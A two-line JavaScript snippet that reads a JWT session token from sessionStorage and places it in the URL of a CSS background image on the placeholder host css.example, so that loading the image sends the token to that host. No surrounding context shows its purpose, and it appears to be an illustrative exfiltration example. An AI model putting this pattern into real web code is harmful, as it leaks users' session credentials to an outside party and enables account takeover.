const t = sessionStorage.getItem('jwt');
document.body.style.backgroundImage = `url(https://css.example/${t})`;
